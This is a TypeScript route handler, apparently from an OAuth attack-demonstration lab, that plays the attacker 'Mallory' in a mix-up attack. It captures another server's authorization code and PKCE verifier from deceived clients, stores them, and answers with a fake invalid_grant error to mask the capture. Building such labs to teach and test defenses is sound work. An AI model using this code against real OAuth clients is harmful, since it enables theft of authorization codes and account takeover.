import { env } from "@/env";
import { keepTokenRequest } from "@/mallory/accounts";
import { attackLab } from "@/mallory/attack-lab-pages";

/**
 * Mallory's token endpoint: a client that took PhotoCloud's answer for hers sends her PhotoCloud's
 * code, with its PKCE verifier. She keeps both, for the run the client's page belongs to (its
 * Referer carries the run), and answers with an error, as a server would that knows no such code.
 */
export async function POST(request: Request) {
  const form = new URLSearchParams(await request.text());
  const runId = attackLab.runOf(request);
  const [code, code_verifier, redirect_uri, client_id] = ["code", "code_verifier", "redirect_uri", "client_id"].map((name) => form.get(name) ?? "");
  if (runId && code) keepTokenRequest(runId, { code, code_verifier: code_verifier!, redirect_uri: redirect_uri!, client_id: client_id! });
  return Response.json(
    { error: "invalid_grant", error_description: "The code is not valid." },
    // alice's app runs at PrintShop's origin: it may read the answer, so that it stops there.
    { status: 400, headers: { "Access-Control-Allow-Origin": new URL(env.CLIENT_APP_URL).origin, "Cache-Control": "no-store" } },
  );
}
